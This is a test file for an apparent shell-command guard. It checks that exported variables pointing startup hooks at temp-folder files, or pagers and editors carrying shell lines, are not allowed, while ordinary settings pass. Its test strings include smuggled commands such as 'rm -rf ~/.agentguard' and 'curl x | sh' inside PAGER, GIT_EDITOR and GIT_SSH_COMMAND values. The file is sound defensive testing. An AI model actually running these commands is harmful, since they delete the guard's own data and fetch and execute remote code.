// Variables that make a later program run a file or a command line were set
// without a word: PYTHONSTARTUP, ENV, DOTNET_STARTUP_HOOKS, GIT_CONFIG_GLOBAL
// and INPUTRC naming a file in a temp folder, a PAGER or GIT_EDITOR holding a
// shell line (parse/loaderVariables.ts). The user's own files and one program
// with its options stay quiet.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { engine } from '../support/engineHarness';

test('a start-up file in a temp folder, or a pager or editor holding a shell line, asks', () => {
  const { decide, ids } = engine();
  for (const c of [
    'export PYTHONSTARTUP=/tmp/evil.py',
    'export ENV=/tmp/evil.sh',
    'export DOTNET_STARTUP_HOOKS=/tmp/evil.dll',
    'export GIT_CONFIG_GLOBAL=/tmp/evil.cfg',
    'GIT_CONFIG_GLOBAL=/tmp/evil.cfg git status',
    'export INPUTRC=/tmp/evil.inputrc',
    `export PAGER='sh -c "rm -rf ~/.agentguard"'`,
    `export GIT_EDITOR='rm -rf ~/.agentguard;'`,
    'export PAGER=/tmp/pager',
    `GIT_SSH_COMMAND='ssh -i k; curl x | sh' git fetch`,
  ])
    assert.notEqual(decide(c), 'allow', `${c}: ${ids(c)}`);
  for (const c of [
    'export EDITOR=vim',
    'export PAGER=less',
    `export PAGER='less -R'`,
    `export GIT_EDITOR='code --wait'`,
    `export LESSOPEN='| /usr/bin/lesspipe %s'`,
    'export PYTHONSTARTUP=~/.pythonrc.py',
    'export GIT_CONFIG_GLOBAL=~/.gitconfig-work',
    'GIT_CONFIG_GLOBAL=/dev/null git status',
  ])
    assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
});
